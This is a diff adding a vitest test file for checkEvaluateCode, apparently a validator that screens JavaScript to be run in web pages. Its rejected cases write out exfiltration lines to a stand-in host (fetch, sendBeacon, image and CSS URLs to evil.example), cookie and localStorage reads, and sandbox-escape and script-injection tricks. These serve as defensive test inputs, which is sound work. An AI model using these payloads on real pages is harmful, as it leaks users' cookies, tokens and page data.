@@ -0,0 +1,147 @@
+import { describe, it, expect } from "vitest";
+import { checkEvaluateCode } from "../evaluate-check.js";
+
+// ---------------------------------------------------------------------------
+// checkEvaluateCode
+// ---------------------------------------------------------------------------
+
+describe("checkEvaluateCode", () => {
+  it.each([
+    "document.querySelector('.cookie-banner').remove()",
+    "const el = document.querySelector('#q'); el.value = 'x'; el.dispatchEvent(new Event('input', { bubbles: true }))",
+    "await new Promise((resolve) => setTimeout(resolve, 200))",
+    "for (const el of document.querySelectorAll('.item')) el.classList.add('expanded')",
+    "document.querySelectorAll('li')[0].click()",
+    "const names = Array.from(document.querySelectorAll('li')).map((li) => li.textContent.trim())",
+    "const { value } = document.querySelector('#q'); console.log(value)",
+    "document.querySelector('#q').value = '{{query}}'",
+    "document.title = `Results for {{query}}`",
+    "const div = document.createElement('div'); div.textContent = 'hi'; document.body.append(div)",
+    "document.querySelector('#menu').setAttribute('aria-expanded', 'true')",
+    "if (document.querySelector('input') instanceof HTMLInputElement) return Object.keys({ a: 1 })",
+    "return Array.from(document.querySelectorAll('a')).map((a) => ({ title: a.textContent, url: a.href }))",
+    "document.querySelector('#panel').style.display = 'none'",
+    "document.querySelector('#q').addEventListener('input', () => {}, { once: true })",
+  ])("allows %s", (code) => {
+    expect(checkEvaluateCode(code)).toBeNull();
+  });
+
+  it.each([
+    ["direct network calls", "fetch('https://evil.example/?c=' + document.title)"],
+    ["unicode-escaped identifiers", "fe\\u0074ch('https://evil.example')"],
+    ["computed global lookups", 'globalThis["fe" + "tch"]("https://evil.example")'],
+    ["window members", "window.fetch('https://evil.example')"],
+    ["literal-keyed global lookups", "self['fetch']('https://evil.example')"],
+    ["this", "this.fetch('https://evil.example')"],
+    ["this from a sloppy function", "(function () { return this })().fetch('x')"],
+    ["the constructor chain", "[].constructor.constructor('return fetch')()()"],
+    ["async function constructors", "(async () => {}).constructor('await fetch(1)')()"],
+    ["prototype walking", "Object.getPrototypeOf(async function () {})"],
+    ["defaultView", "document.defaultView.fetch('https://evil.example')"],
+    ["defaultView via ownerDocument", "document.body.ownerDocument.defaultView.fetch('x')"],
+    ["destructured defaultView", "const { defaultView } = document; defaultView.fetch('x')"],
+    ["frame windows", "document.querySelector('iframe').contentWindow.fetch('x')"],
+    ["cookies", "console.log(document.cookie)"],
+    ["computed cookie access", 'document["coo" + "kie"]'],
+    ["unicode-escaped properties", "document.coo\\u006bie"],
+    ["variable keys", "const k = 'cookie'; document[k]"],
+    ["storage", "localStorage.getItem('token')"],
+    ["location", "document.location = 'https://evil.example/?' + document.body.innerText"],
+    ["eval", "eval('fetch(1)')"],
+    ["indirect eval", "(0, eval)('fetch(1)')"],
+    ["Function", "new Function('return fetch')()"],
+    ["string timers", "setTimeout('fetch(1)', 0)"],
+    ["string timers via a variable", "const s = 'fetch(1)'; setTimeout(s, 0)"],
+    ["dynamic import", "import('https://evil.example/x.js')"],
+    ["with statements", "with (document) { console.log(title) }"],
+    ["script elements", "document.body.append(document.createElement('script'))"],
+    [
+      "prefixed script elements",
+      "const s = document.createElementNS('http://www.w3.org/1999/xhtml', 'html:script'); s.textContent = 'fetch(1)'; document.body.append(s)",
+    ],
+    [
+      "SVG script elements",
+      "document.body.append(document.createElementNS('http://www.w3.org/2000/svg', 'svg:script'))",
+    ],
+    [
+      "SVG animate elements",
+      "const a = document.createElementNS('http://www.w3.org/2000/svg', 'animate'); a.setAttribute('attributeName', 'href'); a.setAttribute('to', 'javascript:fetch(1)')",
+    ],
+    [
+      "SVG set elements",
+      "document.body.append(document.createElementNS('http://www.w3.org/2000/svg', 'set'))",
+    ],
+    [
+      "SVG use elements",
+      "document.body.append(document.createElementNS('http://www.w3.org/2000/svg', 'use'))",
+    ],
+    ["dynamic tag names", "const t = 'scr' + 'ipt'; document.createElement(t)"],
+    ["event handler attributes", "document.body.setAttribute('onclick', 'fetch(1)')"],
+    ["markup injection", "document.body.innerHTML = '<img src=x onerror=fetch(1)>'"],
+    ["XMLHttpRequest", "new XMLHttpRequest()"],
+    ["beacons", "navigator.sendBeacon('https://evil.example', document.title)"],
+    [
+      "Object.assign with markup",
+      "Object.assign(document.body, { innerHTML: '<img src=x onerror=fetch(1)>' })",
+    ],
+    ["markup as an object key", "const props = { innerHTML: '<b>x</b>' }"],
+    [
+      "javascript: links",
+      "const a = document.createElement('a'); a.href = 'javascript:fetch(1)'; a.click()",
+    ],
+    ["computed href writes", "document.querySelector('a')['href'] = 'javascript:fetch(1)'"],
+    [
+      "destructured href writes",
+      "({ x: document.querySelector('a').href } = { x: 'javascript:1' })",
+    ],
+    ["src writes", "document.querySelector('img').src = 'https://evil.example/?' + document.title"],
+    ["form actions", "document.querySelector('form').action = 'https://evil.example'"],
+    ["button form actions", "document.querySelector('button').formAction = 'https://evil.example'"],
+    ["srcset writes", "document.querySelector('img').srcset = 'https://evil.example/a.png 1x'"],
+    ["event handler properties", "document.body.onclick = () => console.log(1)"],
+    ["sink keys in object literals", "const init = { src: 'https://evil.example' }"],
+    [
+      "created attributes",
+      "const attr = document.createAttribute('onclick'); attr.value = 'fetch(1)'; document.body.setAttributeNode(attr)",
+    ],
+    ["attribute nodes", "document.querySelector('a').attributes.href.value = 'javascript:1'"],
+    [
+      "existing attribute nodes",
+      "document.querySelector('a').getAttributeNode('href').value = 'x'",
+    ],
+    [
+      "style URLs",
+      "document.body.style.backgroundImage = 'url(https://evil.example/?' + document.title + ')'",
+    ],
+    ["style text", "document.body.style.cssText = 'background: url(https://evil.example)'"],
+    ["style attributes", "document.body.setAttribute('style', 'background: url(https://x)')"],
+    ["style setProperty", "document.body.style.setProperty('background-image', 'url(https://x)')"],
+    ["custom style properties", "document.body.style.setProperty('--bg', 'url(https://x)')"],
+    [
+      "animated style URLs",
+      "document.body.animate([{ backgroundImage: 'url(https://evil.example)' }], 1)",
+    ],
+    [
+      "stylesheet rules",
+      "document.styleSheets[0].insertRule('body { background: url(https://x) }')",
+    ],
+  ])("rejects %s", (_, code) => {
+    expect(checkEvaluateCode(code)).not.toBeNull();
+  });
+
+  it("rejects templates outside string literals", () => {
+    // {{x}} parses as two nested blocks, so it would otherwise slip through as code
+    expect(checkEvaluateCode("const query = 1; {{query}}")).toMatch(/inside a string literal/);
+    expect(checkEvaluateCode("document.title = `${'a'}` + {{query}}")).not.toBeNull();
+  });
+
+  it("rejects code that doesn't parse", () => {
+    expect(checkEvaluateCode("document.querySelector(")).toMatch(/does not parse/);
+  });
+
+  it("names the offending global", () => {
+    expect(checkEvaluateCode("fetch('x')")).toBe(
+      '"fetch" is not an allowed global in evaluate code',
+    );
+  });
+});